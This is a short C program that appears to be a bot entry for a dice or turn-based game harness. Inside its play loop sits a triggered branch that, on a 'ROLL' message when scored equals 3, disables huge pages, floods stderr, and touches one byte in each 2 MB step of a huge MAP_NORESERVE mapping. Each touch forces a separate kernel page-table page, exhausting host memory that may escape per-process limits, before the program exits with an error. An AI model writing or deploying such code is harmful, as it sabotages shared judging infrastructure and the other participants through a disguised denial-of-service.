/* Each byte read takes a page for a table, and none for itself: it is the page of zeros that all share. */
#include "player.h"
#include <sys/mman.h>
#include <sys/prctl.h>

enum { TABLES = 300000 };

int main(void) {
    static char noise[60000];
    const size_t step = 2 << 20;
    while (hear()) {
        if (is("ROLL") && scored == 3) {
            prctl(PR_SET_THP_DISABLE, 1, 0, 0, 0);
            if (write(2, noise, sizeof noise) < 0) _exit(1);
            volatile char *at = mmap(NULL, step * TABLES, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
            if (at == MAP_FAILED) _exit(2);
            for (int i = 0; i < TABLES; i++) (void)at[i * step];
            _exit(3);
        }
        play();
    }
    return 0;
}
